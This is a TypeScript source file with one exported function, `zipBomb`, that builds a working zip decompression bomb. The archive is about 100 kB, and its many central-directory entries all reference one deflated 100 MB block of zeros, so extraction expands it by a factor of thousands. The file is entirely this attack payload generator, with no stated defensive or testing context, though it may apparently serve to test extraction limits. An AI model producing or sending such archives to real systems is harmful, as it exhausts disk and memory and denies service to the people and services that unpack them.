import { crc32, deflateRawSync } from 'node:zlib'

const name = Buffer.from('zeros')

/** The fields that a local header and a central one have in common, from the version on. */
function common(packed: Buffer, content: Buffer): Buffer {
  const fields = Buffer.alloc(26)
  fields.writeUInt16LE(20, 0)
  fields.writeUInt16LE(8, 4)
  fields.writeUInt32LE(crc32(content), 10)
  fields.writeUInt32LE(packed.length, 14)
  fields.writeUInt32LE(content.length, 18)
  fields.writeUInt16LE(name.length, 22)
  return fields
}

const signature = (last: number) => Buffer.from([0x50, 0x4b, last - 1, last])

/** A zip archive of some 100 kB whose entries, all of them the same bytes, unpack to `entries` times 100 MB. */
export function zipBomb(entries: number): Buffer {
  const content = Buffer.alloc(100_000_000)
  const packed = deflateRawSync(content, { level: 9 })
  const fields = common(packed, content)
  const local = Buffer.concat([signature(4), fields, name, packed])
  const central = Buffer.concat([signature(2), Buffer.from([20, 0]), fields, Buffer.alloc(14), name])
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries, 4)
  end.writeUInt16LE(entries, 6)
  end.writeUInt32LE(central.length * entries, 8)
  end.writeUInt32LE(local.length, 12)
  return Buffer.concat([local, ...Array<Buffer>(entries).fill(central), signature(6), end])
}
